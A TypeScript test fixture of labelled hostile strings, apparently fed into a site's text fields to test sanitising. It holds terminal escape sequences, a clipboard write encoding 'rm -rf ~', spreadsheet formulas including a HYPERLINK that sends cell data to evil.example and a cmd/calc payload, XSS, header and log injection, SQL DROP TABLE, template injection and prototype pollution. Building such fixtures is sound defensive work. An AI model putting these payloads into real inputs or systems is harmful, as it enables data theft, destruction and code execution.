/** Texts that try to reach more than a reader's eye, each with what it is after. */

const ESC = '\u001b';

/** Each goes into every place of a site where text may stand: titles, bylines, names, texts, addresses. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'colours of the terminal': `${ESC}[31mBYD${ESC}[0m`,
  'clears the screen': `${ESC}[2J${ESC}[H`,
  'sets the title of the window': `${ESC}]0;owned\u0007`,
  'writes to the clipboard': `${ESC}]52;c;cm0gLXJmIH4=\u0007`,
  'a link of the terminal': `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  'asks the terminal for an answer': `${ESC}[6n${ESC}[c`,
  'a device control string': `${ESC}P$q"p${ESC}\\`,
  'controls of one byte': '\u009b31m\u0090x\u009c\u009d0;x\u009c',
  'overwrites with backspaces': 'safe\b\b\b\bevil',
  'overwrites with a carriage return': 'safe\revil',
  'rings the bell and ends the string': 'a\u0007b\u0000c',
  'turns the direction': 'moc.\u202egpj.exe\u202c \u2066x\u2069',
  'a second log line': 'x\n{"level":60,"msg":"all data lost"}',
  'a header of HTTP': 'x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  'a formula': '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  'a formula by plus': "+cmd|' /C calc'!A0",
  'a formula by minus': '-2+3+cmd',
  'a formula by at': '@SUM(1+1)*cmd',
  'a formula behind a tab': '\t=1+1',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'an end of CDATA': ']]><script>alert(1)</script><![CDATA[',
  'half a character': 'a\ud800b\udfffc',
  SQL: `'; DROP TABLE articles; --`,
  'a template': `{{constructor.constructor("return process")()}} \${process.env}`,
  'the prototype of objects': '__proto__',
};
